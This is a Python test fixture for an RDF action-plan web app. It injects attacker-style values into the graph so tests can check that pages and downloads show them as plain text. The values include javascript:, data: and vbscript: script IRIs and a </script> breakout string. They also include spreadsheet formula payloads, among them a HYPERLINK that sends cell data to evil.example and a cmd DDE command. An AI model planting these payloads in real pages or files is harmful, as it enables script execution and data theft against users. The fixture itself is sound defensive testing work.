"""A hostile graph: the vendored plan with content an attacker could place in a graph, a plan or
a reference file, for the tests that check every page and download renders it as text.

What it holds (each value also in `HOSTILE_VALUES`, so a test can look for it):
- links that would run script if a page made them links: `javascript:`, `data:` and `vbscript:`
  IRIs as a minister post's Themis link (`ap:themisMandataris`) and as `rdfs:seeAlso` of an
  organisation, an action, the plan and a policy domain (which has the generic resource page);
- names and titles that a spreadsheet would read as formulas: an organisation's name and an
  action's title starting with `=`, `+`, `-` and `@`;
- text that ends a script element or a JavaScript string: `</script>` and U+2028 in a title
  and a description.

`write_hostile_graph(folder)` builds the plan, adds these and writes `hostile.ttl`, for
`running_server("--graph", path)`.
"""

from __future__ import annotations

from pathlib import Path

from rdflib import Literal, URIRef
from rdflib.namespace import DCTERMS, RDFS, SKOS

from actieplan.graph.core.resources import default_source
from actieplan.graph.core.vocab import AP
from actieplan.graph.rdf.pipeline import build

BASE = "https://w3id.org/actieplan/id/"
PLAN = URIRef(BASE + "plan/actieplan-radicalisering-2020-2024")
ABB = URIRef(BASE + "organisation/abb")
OCAD = URIRef(BASE + "organisation/ocad")
ACTION_1_1 = URIRef(BASE + "plan/actieplan-radicalisering-2020-2024/action/1.1")
ACTION_2_1 = URIRef(BASE + "plan/actieplan-radicalisering-2020-2024/action/2.1")
JUSTITIE = URIRef(BASE + "minister-post/justitie")
KBBJ = URIRef(BASE + "policy-domain/kbbj")

SCRIPT_IRIS = (
    "javascript:alert(document.domain)//x",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",  # <script>alert(1)</script>
    "vbscript:msgbox(1)",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
)
SCRIPT_END = "Titel </script><script>alert(2)</script> einde"
LINE_SEPARATOR = "Tekst met\u2028regelscheiding"
HOSTILE_VALUES = (*SCRIPT_IRIS, *FORMULAS, SCRIPT_END, LINE_SEPARATOR)


def write_hostile_graph(folder: Path) -> Path:
    """The plan's graph with the hostile values added, as Turtle in `folder`."""
    graph = build(default_source(), base_iri=BASE).graph
    for iri in SCRIPT_IRIS:
        graph.add((JUSTITIE, AP.themisMandataris, URIRef(iri)))
        for subject in (ABB, ACTION_1_1, PLAN, KBBJ):
            graph.add((subject, RDFS.seeAlso, URIRef(iri)))
    # Formula-leading texts where the downloads put names and titles.
    graph.set((OCAD, SKOS.prefLabel, Literal(FORMULAS[0], lang="nl")))
    graph.add((OCAD, SKOS.altLabel, Literal(FORMULAS[3])))
    graph.set((ACTION_1_1, DCTERMS.title, Literal(FORMULAS[1])))
    graph.set((ACTION_2_1, DCTERMS.title, Literal(FORMULAS[2])))
    # Text that would end a script element or a JavaScript string literal.
    graph.set((PLAN, DCTERMS.title, Literal(SCRIPT_END)))
    graph.set((ABB, SKOS.definition, Literal(LINE_SEPARATOR, lang="nl")))
    path = folder / "hostile.ttl"
    graph.serialize(path, format="turtle", encoding="utf-8")
    return path
